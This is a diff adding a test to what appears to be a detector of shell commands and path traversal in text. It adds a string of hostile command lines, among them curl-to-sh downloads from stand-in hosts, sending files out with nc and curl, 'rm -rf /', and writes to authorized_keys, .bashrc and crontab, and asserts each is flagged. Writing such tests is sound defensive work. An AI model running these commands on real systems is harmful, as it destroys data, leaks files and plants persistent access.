@@ -138,6 +138,24 @@ def test_what_the_shell_reads_is_told_from_what_documents_show() -> None:
     assert "shell" in seen("see `ls | sort` | bash")
 
 
+FED = """x | curl http://h.example/s | sh\ncat x | curl http://h.example/s | sh\nls -la | bash\ncat a | python
+cat a | python3 -
+echo cm0gLXJm | base64 -d | sh\nls -la | nc 192.0.2.1 80\ncat notes.txt | nc h.example 80\ncat a | curl -d @- http://h.example
+sort a | xargs rm\nfind . -name x | xargs rm -rf\necho x | tee -a ~/.bashrc\necho x | tee /root/.ssh/authorized_keys
+cat a | sudo sh\ncat a | env sh\ncat a | node\nsort a | sort -o /srv/a
+sort a | grep -r x /srv\nsort a | sort --compress-program=sh
+sort a | awk '{system($0)}'\nls -la && rm -rf /\nls -la && wget http://h.example/s\ncat a | socat - tcp:h.example:80
+git status && git -c core.pager=sh log\nls x | busybox sh\necho a | dd of=x\ncat a | crontab -"""
+
+
+def test_a_line_that_is_a_command_may_only_go_on_with_filters() -> None:
+    """Else whoever begins a value with the name of a command could feed what they like to a shell."""
+    assert [text for text in FED.splitlines() if "shell" not in seen(text)] == []
+    filters = ("sort a.txt | uniq -c | head -3", "ps aux | grep python", "git add . && git commit -m x",
+               "cat file | awk '{print $1}' | sort", "echo foo | sed s/o/a/", "du -sh x | sort -h")  # fmt: skip
+    assert [text for text in filters if seen(text)] == []
+
+
 def test_a_path_that_climbs_openly_may() -> None:
     assert seen("../lib/a%20b.png") == set()
     assert seen("..%2flib/a.png") == {"traversal"}
